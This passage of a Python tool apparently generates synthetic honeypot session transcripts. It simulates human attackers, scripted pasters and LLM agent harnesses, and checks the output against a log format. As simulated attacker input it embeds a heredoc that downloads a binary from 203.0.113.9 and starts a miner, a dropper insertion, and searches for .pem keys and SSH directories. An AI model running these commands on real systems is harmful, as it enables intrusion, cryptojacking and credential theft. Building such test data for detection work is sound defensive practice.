                    e = "\x1b[%dD" % r.randint(1, 9) if k in ("\x01", "\x02") else "\x1b[%dC" % r.randint(1, 9)
                elif k == "\x1b[A":
                    e = "\r\x1b[K" + (self.host.history[-1] if self.host.history else "")
                elif k in ("\r", "\n", "\r\x00"):
                    continue
                else:
                    e = k
                self.out(t + r.uniform(0.0004, 0.004), e)
        return t

    def paste(self, t, text, with_enter):
        """A paste; long pastes arrive in TCP segments a few ms apart."""
        r = self.rng
        body = text
        if self.bracketed and self.cls in ("human", "you-sim"):
            body = "\x1b[200~" + text + "\x1b[201~"
        if with_enter:
            body += self.enter
        data = body.encode("utf-8", "surrogateescape")
        if len(data) > 1400 and r.random() < 0.9:
            while data:
                seg = r.randint(1000, 4096)
                self.inp(t, data[:seg])
                data = data[seg:]
                if data:
                    t += r.uniform(0.001, 0.03)
        else:
            self.inp(t, data)
        # the shell echoes the text; `execute` adds the Enter's echo
        self.out(t + r.uniform(0.0005, 0.004), text)
        return t


def lognorm(rng, median, sigma):
    return median * math.exp(rng.gauss(0.0, sigma))


def human_keys(rng, line, ident):
    """Keystrokes for a typed line, with typos, corrections and tab completion."""
    keys = []
    words = line.split(" ")
    typo_rate = ident["typo"]
    for wi, w in enumerate(words):
        if wi:
            keys.append(" ")
        # tab completion of long path-ish words
        if len(w) > 5 and rng.random() < ident["tab"] and ("/" in w or "." in w):
            cut = rng.randint(2, len(w) - 2)
            keys.extend(w[:cut])
            keys.append("\t")
            keys.append(("TAB", w[cut:]))   # completed by the shell, not typed
            continue
        i = 0
        while i < len(w):
            c = w[i]
            if c.isalpha() and rng.random() < typo_rate:
                wrong = rng.choice("asdfghjklqwertyuiopzxcvbnm")
                keys.append(wrong)
                extra = rng.randint(0, 2)
                keys.extend(w[i + 1:i + 1 + extra])
                keys.extend(["\x7f"] * (1 + len(w[i + 1:i + 1 + extra])))
            keys.append(c)
            i += 1
    return keys


def simulate(rng, cls, ident, host, src_ip):
    s = Session(rng, cls, ident, host, src_ip)
    if host.service == "telnet" and cls != "human" and rng.random() < 0.5:
        s.enter = "\r\x00"
    t = s.out(s.t, host.banner(src_ip))
    t += rng.uniform(0.3, 2.5)
    if cls == "human":
        t = sim_human(rng, s, ident, t)
    elif cls == "you-sim":
        t = sim_you(rng, s, ident, t)
    else:
        t = sim_agent(rng, s, ident, t)
    if rng.random() < (0.35 if cls == "human" else 0.05):
        for _ in range(rng.randint(1, 2)):
            ev_t = rng.uniform(s.ev[0][0], t)
            s.ev.append((ev_t, "r", b"%dx%d" % rng.choice([(80, 24), (120, 32), (160, 45), (211, 57)])))
    # sessrec writes in time order; a stable sort keeps same-t reads in
    # poll order (client side first)
    s.ev.sort(key=lambda e: e[0])
    return s


def sim_human(rng, s, ident, t):
    host = s.host
    n = rng.randint(ident["kmin"], ident["kmax"])
    plan = rng.sample(LANDING[:6], rng.randint(1, 3))
    while len(plan) < n:
        # people mostly move around and look at things: ls, cd, cat again and again
        plan.append(rng.choice(HUMAN_CORE) if rng.random() < 0.45 else rng.choice(HUMAN_POOL))
    if rng.random() < 0.3:
        plan += ["history -c", "exit"]
    elif rng.random() < 0.6:
        plan.append("exit")
    base_iki = ident["iki"]
    # Side decisions use their own stream (seeded by the sid) so that the
    # main stream, and with it every other session, stays unchanged.
    aux = random.Random(s.sid)
    latin1 = aux.random() < 0.1
    first_token_latin1 = latin1 and aux.random() < 0.1   # spec A7: whole session yields nothing

    def iki():
        x = lognorm(rng, base_iki, 0.45)
        if rng.random() < 0.04:
            x += rng.uniform(0.4, 1.2)   # hesitation inside a word
        return x
    i = 0
    while i < len(plan):
        line = plan[i]
        i += 1
        # numpad bursts: IPs typed on the keypad
        if ident["numpad"] and rng.random() < 0.3:
            line = "ping -c 4 10.%d.%d.%d" % (rng.randint(10, 99), rng.randint(100, 255), rng.randint(100, 255))
        if latin1 and aux.random() < 0.3 and "o" in line[1:]:
            # a Latin-1 terminal: o-umlaut goes out as the raw byte 0xF6, which
            # makes the shard line invalid UTF-8 (spec §1.4, §1.9)
            cut = 0 if first_token_latin1 else line.find(" ") + 1
            if cut or first_token_latin1:
                j = line.find("o", cut)
                if j >= 0:
                    line = line[:j] + "\udcf6" + line[j + 1:]
        tok = line.split()[0]
        typo_cmd = tok in HUMAN_TYPOS and rng.random() < 0.12
        exec_line = line.replace(tok, HUMAN_TYPOS[tok], 1) if typo_cmd else line
        keys = human_keys(rng, exec_line, ident)
        # sometimes start over with ^U, or move with ^A/^E, or recall with Up
        if rng.random() < 0.05:
            keys = list("ls -") + ["\x15"] + keys
        if rng.random() < 0.06:
            keys = keys + ["\x01", "\x05"]
        if rng.random() < 0.04 and host.history:
            keys = ["\x1b[A"]
            exec_line = host.history[-1]
        keys.append("\r")
        # paste now and then: a URL or a one-liner copied from a note
        if rng.random() < ident["paste"] and len(line) > 8:
            t = s.paste(t, line, False)
            t += lognorm(rng, 0.4, 0.3)
            s.inp(t, "\r")
            s.out(t + 0.001, "")
        else:
            for k in keys:
                if isinstance(k, tuple):
                    s._completion = k[1]
                    continue
                if k in "0123456789" and ident["numpad"]:
                    t += rng.uniform(0.018, 0.045)
                    s.inp(t, k)
                    s.out(t + 0.001, k)
                    continue
                t = s.type_line(t, [k], iki)
                s._completion = ""
        if rng.random() < 0.03:
            # an accidental empty Enter
            t += rng.uniform(0.2, 0.6)
            s.inp(t, "\r")
            s.out(t + 0.001, "\r\n" + host.prompt())
        t, kind, n = s.execute(t, exec_line)
        if kind == "exit":
            return t
        t = s.finish_special(t, kind, lambda: lognorm(rng, 2.0, 0.5))
        # read the output, think
        think = lognorm(rng, ident["think"], 0.6) + n * ident["read"]
        if kind == "err" and typo_cmd:
            plan.insert(i, line)          # rerun, corrected
        elif kind == "err" and rng.random() < 0.3:
            plan.insert(i, rng.choice(["ls -la", "pwd", "man " + tok, "cd /tmp"]))
        t += think
    # no exit: the client just disconnects after a while
    return t + rng.uniform(0.5, 30)


def sim_you(rng, s, ident, t):
    """A person pasting canned commands from a list, pressing Enter by hand."""
    n = rng.randint(ident["kmin"], ident["kmax"])
    plan = rng.sample(LANDING, 3) + rng.sample(RECON, len(RECON)) + rng.sample(PLAYBOOK_TAIL, len(PLAYBOOK_TAIL))
    plan = plan[:n]
    typed_at = rng.randrange(len(plan)) if rng.random() < ident["type_one"] else -1
    if rng.random() < 0.5:
        plan.append("exit")
    for idx, line in enumerate(plan):
        if idx == typed_at:
            line = rng.choice(["ls -la", "whoami", "uname", "ps aux", "df -h", "free"])
            t = s.type_line(t, list(line) + ["\r"], lambda: lognorm(rng, 0.17, 0.35))
        else:
            t = s.paste(t, line, False)
            t += lognorm(rng, 0.22, 0.4)
            s.inp(t, "\r")
        t, kind, nout = s.execute(t, line)
        if kind == "exit":
            return t
        t = s.finish_special(t, kind, lambda: lognorm(rng, 0.6, 0.3))
        t += min(1.45, max(0.35, lognorm(rng, 0.75, 0.35)))
    return t + rng.uniform(0.5, 5)


HEREDOC = ["cat > /tmp/.s.sh << 'EOF'", "#!/bin/sh", "cd /tmp || exit 1", "wget -q http://203.0.113.9/b -O .b",
           "chmod 700 .b", "./.b -o pool.example:3333 &", "echo done", "EOF", "sh /tmp/.s.sh"]


def sim_agent(rng, s, ident, t):
    """LLM agent harnesses: whole commands written at once, a few quirks."""
    cls = s.cls
    sep_enter = rng.random() < ident["sep_enter"]
    n = rng.randint(ident["kmin"], ident["kmax"])
    if sep_enter:
        # tmux send-keys style harness (text, then Enter as its own key):
        # these runs were the long unattended ones
        n = rng.randint(45, 60)
    if cls == "claude-cl":
        plan = rng.sample(LANDING[:6], 2)
        while len(plan) < n:
            plan.append(rng.choice(CL_POOL))
    else:
        plan = rng.sample(LANDING, 3) + rng.sample(RECON, len(RECON))
        if n > 25:
            plan += rng.sample(RECON2, len(RECON2))
        plan = plan[:max(3, n - 3)] + rng.sample(PLAYBOOK_TAIL, 3)
        plan = plan[:n]
    if sep_enter or rng.random() < ident["dropper"]:
        plan.insert(rng.randint(2, len(plan)), "DROPPER")
    if rng.random() < ident["heredoc"]:
        plan.insert(rng.randint(2, len(plan)), "HEREDOC")
    keyed = set()
    if rng.random() < ident["keyed"]:
        keyed = set(rng.sample(range(len(plan)), min(len(plan), rng.randint(1, 2))))
    if rng.random() < 0.4:
        plan.append("exit")
    for idx, line in enumerate(plan):
        if line == "HEREDOC":
            # pexpect-style sendline per line, a few ms apart: one command each
            for hl in HEREDOC[:-1]:
                t = s.paste(t, hl, True)
                if hl == "EOF":
                    t, _, _ = s.execute(t, "true")
                else:
                    s.out(t + rng.uniform(0.0005, 0.002), "\r\n> ")
                    t += rng.uniform(0.004, 0.04)
            t += rng.uniform(1.0, 4.0)
            line = HEREDOC[-1]
        if line == "DROPPER":
            line = DROPPER % payload(rng, rng.randint(8000, 14000))
        if idx in keyed:
            # harness falls back to emulated typing (xdotool-style); the
            # link merges some keys into 2-3 byte reads
            keys, i = [], 0
            line = rng.choice(["find / -name '*.pem' 2>/dev/null", "ls -la /root/.ssh",
                               "cat /etc/crontab", "ls -la /home/*/.ssh", line])
            while i < len(line):
                k = rng.choice([1, 1, 2, 2, 3])
                keys.append(line[i:i + k])
                i += k
            keys.append(s.enter)
            t = s.type_line(t, keys, lambda: rng.uniform(ident["key_delay"] * 0.8, ident["key_delay"] * 1.2))
        elif sep_enter:
            t = s.paste(t, line, False)
            t += rng.uniform(0.02, 0.25)
            s.inp(t, s.enter)
        else:
            t = s.paste(t, line, True)
        t, kind, nout = s.execute(t, line)
        if kind == "exit":
            return t
        t = s.finish_special(t, kind, lambda: rng.uniform(2.0, 6.0))
        if cls == "lw-sim":
            gap = rng.uniform(2.2, 7.5)
        elif cls == "claude-ff":
            gap = rng.choice([rng.uniform(8.5, 15.0), rng.uniform(14.0, 29.0)])
        else:
            gap = rng.uniform(22.0, 40.0) + nout * ident["read"]
        t += gap
    return t + rng.uniform(1, 20)


def make_identity(rng, cls):
    """Stable per-attacker traits so several sessions of one IP look alike."""
    ip = rng.choice(["198.51.100.%d", "203.0.113.%d", "192.0.2.%d"]) % rng.randint(2, 254)
    if rng.random() < 0.1:
        ip = "2001:db8::%x" % rng.randint(1, 0xffff)
    ident = {"ip": ip, "cls": cls}
    if cls == "human":
        ident.update(iki=rng.uniform(0.10, 0.19), typo=rng.uniform(0.01, 0.05), tab=rng.uniform(0.2, 0.7),
                     think=rng.uniform(1.5, 4.0), read=rng.uniform(0.002, 0.006), paste=0.02,
                     numpad=rng.random() < 0.3, kmin=8, kmax=30)
    elif cls == "you-sim":
        ident.update(kmin=12, kmax=50, type_one=1.0)
    else:
        ident.update(kmin=10, kmax={"lw-sim": 30, "claude-ff": 26, "claude-cl": 26}[cls],
                     sep_enter=0.25, dropper=0.6, heredoc=0.0 if cls == "claude-cl" else 0.5, keyed=0.35,
                     key_delay=rng.uniform(0.008, 0.03), read=rng.uniform(0.004, 0.02))
    return ident


# --------------------------------------------------------------------------
# Serialisation


def header_line(s, epoch):
    term = s.term.encode("utf-8")[:63]
    term = esc(term) if term else b"xterm-256color"
    if len(term) > 63:
        term = b"-"
    return b'{"sid":"%s","hdr":{"version":2,"width":%d,"height":%d,"timestamp":%d,"env":{"SHELL":"/bin/bash","TERM":"%s"}}}\n' % (
        s.sid.encode(), s.width, s.height, int(epoch), term)


def session_body(s, trunc_at):
    """Lines of one session without their `{"sid":"…"` prefix, capped like
    sessrec (§1.2): [(t, suffix bytes)]. Cached on the session so a replay
    (see --unique) costs only the prefix."""
    if getattr(s, "body", None) is not None:
        return s.body
    body = []
    raw = 0
    last_t = 0.0
    s.truncated = False
    for n, (t, ch, data) in enumerate(s.ev):
        t = max(t, last_t)           # monotonic clock: never decreases
        last_t = t
        if ch == "r":
            body.append((t, b',"t":%.6f,"ch":"r","d":"%s"}\n' % (t, data)))
            continue
        head = b',"t":%.6f,"ch":"%s","d":"' % (t, b"i" if ch == "i" else b"o")
        for off in range(0, max(1, len(data)), PIECE):
            piece = data[off:off + PIECE]
            body.append((t, head + esc(piece) + b'"}\n'))
            raw += len(piece)
            if raw > CAP_BYTES or n == trunc_at:
                body.append((t, b',"trunc":true}\n'))
                s.truncated = True
                break
        if s.truncated:
            break
    s.raw_bytes = raw
    s.duration = last_t
    s.body = body
    s.ev = None                      # the body is all we need from now on
    return body


def session_lines(s, epoch):
    """Yield (wall time, seq, line bytes) for one session."""
    pre = b'{"sid":"' + s.sid.encode() + b'"'
    yield (epoch, 0, header_line(s, epoch))
    seq = 1
    for t, suffix in s.body:
        yield (epoch + t, seq, pre + suffix)
        seq += 1


def syslog_line(s, epoch, decky, service):
    end = epoch + s.duration
    ts = datetime.datetime.fromtimestamp(end, datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    return ('<134>1 %s %s sessrec %d session_recorded [relay@55555 sid="%s" service="%s" src_ip="%s" '
            'duration_s="%.3f" bytes="%d" truncated="%s"] session recorded\n' % (
                ts, decky, 4000 + (int(end) % 30000), s.sid, service, s.src_ip, s.duration, s.raw_bytes,
                "true" if s.truncated else "false")).encode()


def parse_classes(text):
    out = []
    for c in text.split(","):
        c = c.strip().lower().replace("_", "-")
        alias = {"you": "you-sim", "lw": "lw-sim", "ff": "claude-ff", "cl": "claude-cl"}
        c = alias.get(c, c)
        if c not in CLASSES:
            raise SystemExit("unknown class %r (choose from %s)" % (c, ", ".join(CLASSES)))
        out.append(c)
    return out


_LINE_RE = re.compile(
    rb'^\{"sid":"([a-f0-9-]{36})",(?:'
    rb'"hdr":\{"version":2,"width":\d+,"height":\d+,"timestamp":\d+,"env":\{"SHELL":"/bin/bash","TERM":"([^"\\]|\\.)*"\}\}'
    rb'|"t":(\d+\.\d{6}),"ch":"([ior])","d":"((?:[^"\\\x00-\x1f\x7f]|\\["\\bfnrt]|\\u00[0-1][0-9a-f]|\\u007f)*)"'
    rb'|"trunc":true)\}$')


def check(paths):
    """Verify files against sessrec's format (§1.2-1.6); returns problems."""
    problems = []
    name_re = re.compile(r"^sessions-\d{4}-\d{2}-\d{2}\.jsonl$")
    for path in paths:
        parts = path.split(os.sep)
        if not name_re.match(parts[-1]) or parts[-2] != "transcripts" or parts[-3] not in ("ssh", "telnet") \
                or not re.match(r"^[a-z0-9][a-z0-9-]{0,62}$", parts[-4]):
            problems.append("%s: not <decky>/<service>/transcripts/sessions-YYYY-MM-DD.jsonl" % path)
        state = {}   # sid -> (last t, truncated)
        with open(path, "rb") as f:
            for n, line in enumerate(f, 1):
                where = "%s:%d" % (path, n)
                m = _LINE_RE.match(line.rstrip(b"\n"))
                if not line.endswith(b"\n") or not m:
                    problems.append(where + ": not a sessrec line")
                    continue
                sid = m.group(1)
                if line[46:52] == b'"hdr":':
                    if sid in state:
                        problems.append(where + ": second header for a sid")
                    state[sid] = (0.0, False)
                    continue
                if sid not in state:
                    problems.append(where + ": event before the header")
                    continue
                last, trunc = state[sid]
                if trunc:
                    problems.append(where + ": line after the truncation sentinel")
                if m.group(3) is None:
                    state[sid] = (last, True)
                    continue
                t = float(m.group(3))
                if t < last:
                    problems.append(where + ": t decreases")
                raw = re.sub(rb'\\u00[0-9a-f]{2}|\\.', b"x", m.group(5))
                if m.group(4) != b"r" and len(raw) > PIECE:
                    problems.append(where + ": more than %d raw bytes" % PIECE)
                state[sid] = (t, False)
    return problems


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--out")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--sessions", type=int, default=10)
    ap.add_argument("--days", type=int, default=1)
    ap.add_argument("--deckies", type=int, default=1)
    ap.add_argument("--target-bytes", type=int, default=0,
                    help="keep adding sessions until the shards hold at least this many bytes")
    ap.add_argument("--classes", default=",".join(CLASSES))
    ap.add_argument("--services", default="ssh,telnet")
    ap.add_argument("--syslog", action="store_true")
    ap.add_argument("--trunc-prob", type=float, default=0.0,
                    help="probability that a session ends in a failed write (sentinel)")
    ap.add_argument("--unique", type=int, default=60,
                    help="with --target-bytes: simulate this many sessions per class, then replay "
                         "them under new sids (keeps the generator fast for volume benches)")
    ap.add_argument("--start-date", default="2026-05-02")
    ap.add_argument("--concurrency", type=float, default=0.25,
                    help="fraction of sessions that start while another one runs")
    ap.add_argument("--decky", action="append", default=[],
                    help="decky name (repeatable); default: generated names")
    ap.add_argument("--quiet", action="store_true")
    ap.add_argument("--check", nargs="+", metavar="SHARD",
                    help="only verify existing shard files against the sessrec format and exit")
    a = ap.parse_args(argv)
    if a.check:
        problems = check(a.check)
        for p in problems[:50]:
            print(p, file=sys.stderr)
        print("%d files, %d problems" % (len(a.check), len(problems)), file=sys.stderr)
        return 1 if problems else 0

    if not a.out:
        ap.error("--out is required")
    rng = random.Random(a.seed)
    classes = parse_classes(a.classes)
    services = [x for x in a.services.split(",") if x]
    base = datetime.datetime.strptime(a.start_date, "%Y-%m-%d").replace(tzinfo=datetime.timezone.utc)
    deckies = list(a.decky)
    for i in range(len(deckies), a.deckies):
        deckies.append("%s-%02d" % (rng.choice(["web", "db", "edge", "mail", "vpn", "git", "build"]), i + 1))
    shards = []  # (day, decky, service)
    for d in range(a.days):
        for dk in deckies:
            for sv in services:
                if sv == "ssh" or rng.random() < 0.5 or len(services) == 1:
                    shards.append((d, dk, sv))
    identities = {c: [make_identity(rng, c) for _ in range(max(2, a.sessions // (3 * len(classes)) + 1))]
                  for c in classes}
    clock = {sh: rng.uniform(0, 3600) for sh in shards}
    pool = {c: [] for c in classes}
    total = 0
    written = 0
    files = 0
    seen = set()
    per_batch = max(1, -(-a.sessions // len(shards)))
    si = 0
    while written < a.sessions or total < a.target_bytes:
        for sh in shards:
            if written >= a.sessions and total >= a.target_bytes:
                break
            day, decky, service = sh
            day0 = base + datetime.timedelta(days=day)
            batch = []
            for _ in range(per_batch):
                if written >= a.sessions and a.target_bytes == 0:
                    break
                cls = classes[si % len(classes)]
                si += 1
                if a.target_bytes and len(pool[cls]) >= a.unique:
                    # replay a simulated session under a new sid (bench volume)
                    s = copy.copy(rng.choice(pool[cls]))
                    s.sid = str(uuid.UUID(int=rng.getrandbits(128), version=4))
                else:
                    ident = rng.choice(identities[cls])
                    host = Host(rng, decky, service)
                    s = simulate(rng, cls, ident, host, ident["ip"])
                    s.body = None
                    if a.target_bytes:
                        pool[cls].append(s)
                dur = s.duration if s.body is not None else (s.ev[-1][0] if s.ev else 0.0)
                start = clock[sh]
                if batch and rng.random() < a.concurrency:
                    prev_start, prev = batch[-1][0], batch[-1][1]
                    start = prev_start + rng.uniform(0.0, max(0.1, prev.duration))
                clock[sh] = max(clock[sh], start + dur + rng.expovariate(1 / 120.0))
                if clock[sh] > 86000:
                    clock[sh] = rng.uniform(0, 3600)
                if s.body is None:
                    trunc_at = rng.randrange(len(s.ev)) if (s.ev and rng.random() < a.trunc_prob) else -1
                    session_body(s, trunc_at)
                batch.append((start, s, None))
                written += 1
            if not batch:
                continue
            path = os.path.join(a.out, decky, service, "transcripts", "sessions-%s.jsonl" % day0.strftime("%Y-%m-%d"))
            os.makedirs(os.path.dirname(path), exist_ok=True)
            e0 = day0.timestamp()
            streams = [session_lines(s, e0 + st) for (st, s, tr) in batch]
            # tag with the batch index so equal wall times keep a stable order
            tagged = [((w, k, q, line) for (w, q, line) in st) for k, st in enumerate(streams)]
            buf = []
            with open(path, "ab") as f:
                for w, k, q, line in heapq.merge(*tagged):
                    buf.append(line)
                    if len(buf) >= 4096:
                        data = b"".join(buf)
                        f.write(data)
                        total += len(data)
                        buf = []
                data = b"".join(buf)
                f.write(data)
                total += len(data)
            if path not in seen:
                seen.add(path)
                files += 1
            if a.syslog:
                logs = {}
                for (st, s, tr) in batch:
                    end = e0 + st + s.duration
                    day_s = datetime.datetime.fromtimestamp(end, datetime.timezone.utc).strftime("%Y-%m-%d")
                    logs.setdefault(day_s, []).append((end, syslog_line(s, e0 + st, decky, service)))
                for day_s, items in sorted(logs.items()):
                    lp = os.path.join(a.out, "logs", "sessrec-%s.log" % day_s)
                    os.makedirs(os.path.dirname(lp), exist_ok=True)
                    with open(lp, "ab") as f:
                        for _, line in sorted(items):
                            f.write(line)
    if not a.quiet:
        print("wrote %d sessions, %d bytes in %d shard files under %s" % (written, total, files, a.out), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
